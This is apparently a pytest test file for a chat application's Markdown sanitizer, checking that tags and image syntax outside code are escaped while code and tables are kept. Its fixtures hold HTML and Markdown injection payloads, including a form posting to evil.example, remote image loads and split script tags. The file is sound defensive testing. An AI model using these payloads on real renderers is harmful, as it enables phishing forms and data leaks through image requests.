"""safe_markdown: no `<` outside code and no image syntax survive; code and other Markdown are kept as written.
(What Chromium makes of the result is checked in tests/security/test_message_html.py.)"""

import re
import threading

import pytest
from markdown_it import MarkdownIt

from chatapp.safe_markdown import safe_markdown as unbounded


def safe_markdown(text: str, within_s: float = 10.0) -> str:
    """chatapp.safe_markdown.safe_markdown, failing instead of hanging if it loops (it runs on every message the
    chat shows, so a loop is a hung chat)."""
    result: list[str] = []
    worker = threading.Thread(target=lambda: result.append(unbounded(text)), daemon=True)
    worker.start()
    worker.join(within_s)
    assert not worker.is_alive(), f"safe_markdown still running after {within_s:g} s on {text[:60]!r}"
    return result[0] if result else unbounded(text)  # no result: it raised; raise it here


def outside_code(text: str) -> str:
    """The text with top-level fenced blocks and one-line code spans removed."""
    text = re.sub(r"(?ms)^```.*?^```[ \t]*$", "", text)
    return re.sub(r"(`+)[^`\n|]+?\1", "", text)


@pytest.mark.parametrize(
    "hostile",
    [
        '<form action="https://evil.example"><input name="p"><button>Go</button></form>',
        "<img src=https://evil.example/p.png>",
        "![x](https://evil.example/p.png) and ![ref][r]\n\n[r]: https://evil.example/r.png",
        "\\`<form>` escaped backtick opens no code span",
        "`unclosed <form>",
        "| `a | <form>` |\n|---|---|",  # a table cell boundary splits the span
        "- item\n  ```\n  <form>\n  ```",  # a fence nested in a list is treated as text
        "> ```\n> <iframe src=x>",
        "line\u2028<form>\x85<input>\n```\n<ok>\n```",  # exotic line breaks must not shift line numbers
        "<scr<script>ipt>",
    ],
)
def test_no_tag_or_image_survives_outside_code(hostile: str):
    safe = safe_markdown(hostile)
    assert "<" not in outside_code(safe).replace("<ok>", "")
    assert "![" not in outside_code(safe)


def test_code_and_markdown_are_kept():
    text = "Use `a < b` here.\n\n```cpp\nvector<int> v;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[docs](https://x.y)"
    assert safe_markdown(text) == text
    assert safe_markdown("a < b") == "a &lt; b"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        # CommonMark: a span opened by N backticks closes only on a run of exactly N. A longer or shorter run
        # leaves the opener as a literal backtick and the tag after it as live HTML, so the tag is escaped.
        ("`<form action=x>`` no span", "`&lt;form action=x>`` no span"),
        ("``<form action=x>` no span", "``&lt;form action=x>` no span"),
        ("``a`<b>`` one span", "``a`<b>`` one span"),
        ("`a``<b>` one span", "`a``<b>` one span"),
        ("`a` <b> `c`", "`a` &lt;b> `c`"),
    ],
)
def test_an_inline_code_span_closes_only_on_a_run_of_the_same_width(text: str, expected: str):
    assert safe_markdown(text) == expected
    # The browser's reading agrees: every "<" left as written is inside a code span.
    html = MarkdownIt("commonmark").render(safe_markdown(text))
    assert "<form" not in html and "<b>" not in html


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a <b> ![x](https://e.example/p.png) <c>", "a &lt;b> !\\[x](https://e.example/p.png) &lt;c>"),
        # A backslash escape is literal text: "\<" becomes the entity alone, "\`" opens no code span.
        ("a \\<form> b \\`<i>` c", "a &lt;form> b \\`&lt;i>` c"),
        ("\\![x](u) \\* <b>", "\\![x](u) \\* &lt;b>"),
        ("<b> and \\<i>", "&lt;b> and &lt;i>"),
        ("`<b>` <i> `<u>`\n<s> `<p>`", "`<b>` &lt;i> `<u>`\n&lt;s> `<p>`"),
        ("no tags at all, not even ! [", "no tags at all, not even ! ["),
    ],
)
def test_exactly_what_is_escaped_and_what_is_kept(text: str, expected: str):
    assert safe_markdown(text) == expected


@pytest.mark.parametrize("fence", ["```", "~~~", "````"])
def test_a_fenced_block_of_either_kind_is_kept_as_written(fence: str):
    text = f"before <b>\n{fence}html\n<form>kept</form>\n{fence}\nafter <i>"
    assert safe_markdown(text) == f"before &lt;b>\n{fence}html\n<form>kept</form>\n{fence}\nafter &lt;i>"
